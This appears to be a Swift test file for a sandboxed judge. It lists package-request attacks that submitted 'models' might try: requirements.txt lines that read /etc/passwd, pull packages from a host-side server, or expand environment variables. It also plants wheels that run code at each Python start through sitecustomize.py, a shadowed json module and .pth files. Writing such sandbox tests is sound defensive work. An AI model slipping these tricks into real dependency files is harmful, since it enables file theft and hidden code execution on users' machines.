import Foundation

/// Attacks by models: by the packages that they ask for.
extension Attack {
    /// `port` is where a server of the host hands out the canary.
    static func modelPackages(port: Int) -> [Attack] {
        [
            asking("for-a-file-of-the-host", "-r /etc/passwd"),
            asking("for-another-index", "--extra-index-url http://172.17.0.1:\(port)/\nnumpy"),
            asking("for-an-address", "numpy @ http://172.17.0.1:\(port)/numpy-2.0-py3-none-any.whl"),
            asking("for-its-own-folder", "-e ."),
            asking("for-a-variable", "numpy==${BATCH_JUDGE_TEST}"),
            asking("for-what-starts-itself", "starter", "CE", "packages"),
            asking("for-what-hides-a-module", "shadow", "CE", "packages"),
            pathFile,
        ]
    }

    private static func asking(
        _ name: String,
        _ line: String,
        _ verdict: String = "SE",
        _ reason: String = "requirements"
    ) -> Self {
        model("asks-\(name)", "", verdict, reason, with: ["requirements.txt": Data("\(line)\n".utf8)])
    }

    /// Python would run a line of a `.pth` file at each of its starts.
    private static var pathFile: Self {
        let look = """
            import pathy
            if any(name.endswith(".pth") for name in os.listdir("/packages")): found = "a .pth file"
            if os.path.exists("/work/started"): found = "it was started"
            """
        return hunter("asks-for-a-path-file", look, with: ["requirements.txt": Data("pathy\n".utf8)])
    }
}

extension Rig {
    /// Wheels that the problem petals offers, which would run `code` at every start of Python.
    func plantWheels(running code: String) throws {
        try allowPackages("requirements: wheelhouse, wheelhouse: wheels/")
        let line = Data("import os; \(code)\n".utf8)
        try wheel("starter", "1.0", ["starter.py": Data(), "sitecustomize.py": line])
        try wheel("shadow", "1.0", ["shadow.py": Data(), "json/__init__.py": line])
        try wheel("pathy", "1.0", ["pathy.py": Data(), "pathy.pth": line, "pathy-1.0.data/data/deep.pth": line])
    }
}
